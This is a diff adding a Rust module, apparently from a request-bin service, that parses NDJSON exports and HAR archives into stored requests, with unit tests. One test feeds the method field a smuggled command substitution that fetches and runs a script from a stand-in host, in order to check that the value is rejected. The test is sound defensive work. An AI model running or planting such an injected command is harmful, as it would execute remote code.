@@ -0,0 +1,218 @@
+use serde::Deserialize;
+use serde_json::Value;
+
+use crate::utils::body::decode_body;
+use crate::utils::headers::parse_stored_headers;
+
+/// A request read from an NDJSON export or a HAR file, ready to be stored in a bin.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ImportedRequest {
+    pub method: String,
+    pub headers: Vec<(String, String)>,
+    pub body: Vec<u8>,
+    /// Original capture time, if the source recorded one
+    pub timestamp: Option<String>,
+    pub path: String,
+    pub query_string: Option<String>,
+    pub source_ip: Option<String>,
+    pub source_port: Option<u16>,
+    pub content_encoding: Option<String>,
+}
+
+/// One line of `GET /bin/:id/export?format=ndjson`. Only `method` is required so
+/// hand-written fixtures can stay short.
+#[derive(Deserialize)]
+struct NdjsonLine {
+    method: String,
+    #[serde(default)]
+    headers: Option<Value>,
+    #[serde(default)]
+    body: Option<String>,
+    #[serde(default)]
+    body_encoding: Option<String>,
+    #[serde(default)]
+    content_encoding: Option<String>,
+    #[serde(default)]
+    timestamp: Option<String>,
+    #[serde(default)]
+    path: Option<String>,
+    #[serde(default)]
+    query_string: Option<String>,
+    #[serde(default)]
+    source_ip: Option<String>,
+    #[serde(default)]
+    source_port: Option<u16>,
+}
+
+/// Parse an import payload, telling HAR (a JSON object with a `log`) apart from NDJSON.
+pub fn parse_import(data: &[u8]) -> Result<Vec<ImportedRequest>, String> {
+    let text = std::str::from_utf8(data).map_err(|_| "Import must be UTF-8 text".to_string())?;
+    if let Ok(value) = serde_json::from_str::<Value>(text)
+        && value.get("log").is_some()
+    {
+        return parse_har(&value);
+    }
+    parse_ndjson(text)
+}
+
+pub fn parse_ndjson(text: &str) -> Result<Vec<ImportedRequest>, String> {
+    text.lines()
+        .enumerate()
+        .filter(|(_, line)| !line.trim().is_empty())
+        .map(|(index, line)| {
+            let line: NdjsonLine = serde_json::from_str(line)
+                .map_err(|err| format!("Line {}: {}", index + 1, err))?;
+            let headers = match line.headers {
+                // Exports hold headers as a JSON string of pairs, fixtures may inline them
+                Some(Value::String(json)) => parse_stored_headers(&json),
+                Some(value) => parse_stored_headers(&value.to_string()),
+                None => Vec::new(),
+            };
+            let body = decode_body(line.body.as_deref().unwrap_or(""), line.body_encoding.as_deref())
+                .map_err(|err| format!("Line {}: invalid base64 body: {}", index + 1, err))?;
+            let method = valid_method(&line.method).map_err(|err| format!("Line {}: {}", index + 1, err))?;
+
+            Ok(ImportedRequest {
+                method,
+                headers,
+                body,
+                timestamp: line.timestamp,
+                path: line.path.unwrap_or_else(|| "/".to_string()),
+                query_string: line.query_string.filter(|q| !q.is_empty()),
+                source_ip: line.source_ip,
+                source_port: line.source_port,
+                content_encoding: line.content_encoding,
+            })
+        })
+        .collect()
+}
+
+/// Read the requests of a HAR 1.2 archive (`log.entries[].request`); responses are ignored.
+pub fn parse_har(har: &Value) -> Result<Vec<ImportedRequest>, String> {
+    let entries = har["log"]["entries"]
+        .as_array()
+        .ok_or_else(|| "HAR file has no log.entries".to_string())?;
+
+    entries
+        .iter()
+        .enumerate()
+        .map(|(index, entry)| {
+            let request = &entry["request"];
+            let method = request["method"]
+                .as_str()
+                .ok_or_else(|| format!("Entry {}: request.method is missing", index))?;
+            let method = valid_method(method).map_err(|err| format!("Entry {}: {}", index, err))?;
+            let url = request["url"]
+                .as_str()
+                .and_then(|url| reqwest::Url::parse(url).ok())
+                .ok_or_else(|| format!("Entry {}: request.url is missing or invalid", index))?;
+
+            let headers = request["headers"]
+                .as_array()
+                .map(|headers| {
+                    headers
+                        .iter()
+                        .filter_map(|h| Some((h["name"].as_str()?.to_ascii_lowercase(), h["value"].as_str()?.to_string())))
+                        // HTTP/2 pseudo headers such as `:authority` aren't real headers
+                        .filter(|(name, _)| !name.starts_with(':'))
+                        .collect()
+                })
+                .unwrap_or_default();
+
+            let post_data = &request["postData"];
+            let text = post_data["text"].as_str().unwrap_or("");
+            let body = decode_body(text, post_data["encoding"].as_str())
+                .map_err(|err| format!("Entry {}: invalid base64 body: {}", index, err))?;
+
+            Ok(ImportedRequest {
+                method,
+                headers,
+                body,
+                timestamp: entry["startedDateTime"].as_str().map(str::to_string),
+                path: url.path().to_string(),
+                query_string: url.query().map(str::to_string),
+                source_ip: entry["serverIPAddress"].as_str().map(str::to_string),
+                source_port: None,
+                content_encoding: None,
+            })
+        })
+        .collect()
+}
+
+/// `method` upper-cased, if it is a valid HTTP method token
+fn valid_method(method: &str) -> Result<String, String> {
+    let method = method.to_ascii_uppercase();
+    match axum::http::Method::from_bytes(method.as_bytes()) {
+        Ok(_) => Ok(method),
+        Err(_) => Err(format!("invalid method `{}`", method.escape_debug())),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn parses_exported_ndjson() {
+        let ndjson = concat!(
+            r#"{"method":"POST","headers":"[[\"content-type\",\"application/json\"]]","body":"{\"a\":1}","body_encoding":"utf8","timestamp":"2024-01-01T00:00:00+00:00","path":"/hooks","query_string":"x=1"}"#,
+            "\n\n",
+            r#"{"method":"put","body":"AAEC","body_encoding":"base64"}"#,
+            "\n",
+        );
+        let requests = parse_import(ndjson.as_bytes()).unwrap();
+        assert_eq!(requests.len(), 2);
+        assert_eq!(requests[0].headers, vec![("content-type".to_string(), "application/json".to_string())]);
+        assert_eq!(requests[0].path, "/hooks");
+        assert_eq!(requests[0].query_string.as_deref(), Some("x=1"));
+        assert_eq!(requests[1].method, "PUT");
+        assert_eq!(requests[1].body, vec![0, 1, 2]);
+        assert_eq!(requests[1].path, "/");
+    }
+
+    #[test]
+    fn parses_har_entries() {
+        let har = json!({
+            "log": {
+                "version": "1.2",
+                "entries": [{
+                    "startedDateTime": "2024-05-01T10:00:00.000Z",
+                    "request": {
+                        "method": "POST",
+                        "url": "https://api.example.com/v1/orders?page=2",
+                        "headers": [
+                            { "name": ":authority", "value": "api.example.com" },
+                            { "name": "Content-Type", "value": "application/json" }
+                        ],
+                        "postData": { "mimeType": "application/json", "text": "{\"id\":7}" }
+                    },
+                    "response": { "status": 200 }
+                }]
+            }
+        });
+        let requests = parse_import(har.to_string().as_bytes()).unwrap();
+        assert_eq!(requests.len(), 1);
+        assert_eq!(requests[0].path, "/v1/orders");
+        assert_eq!(requests[0].query_string.as_deref(), Some("page=2"));
+        assert_eq!(requests[0].headers, vec![("content-type".to_string(), "application/json".to_string())]);
+        assert_eq!(requests[0].body, br#"{"id":7}"#);
+        assert_eq!(requests[0].timestamp.as_deref(), Some("2024-05-01T10:00:00.000Z"));
+    }
+
+    #[test]
+    fn reports_bad_lines() {
+        let err = parse_import(b"{\"method\":\"GET\"}\nnot json").unwrap_err();
+        assert!(err.starts_with("Line 2"));
+    }
+
+    #[test]
+    fn rejects_invalid_methods() {
+        let err = parse_import(b"{\"method\":\"GET\"}\n{\"method\":\"GET $(curl evil.sh|sh) #\"}").unwrap_err();
+        assert!(err.starts_with("Line 2: invalid method"), "{}", err);
+
+        let har = json!({ "log": { "entries": [{ "request": { "method": "PO ST", "url": "https://example.com/" } }] } });
+        let err = parse_import(har.to_string().as_bytes()).unwrap_err();
+        assert!(err.starts_with("Entry 0: invalid method"), "{}", err);
+    }
+}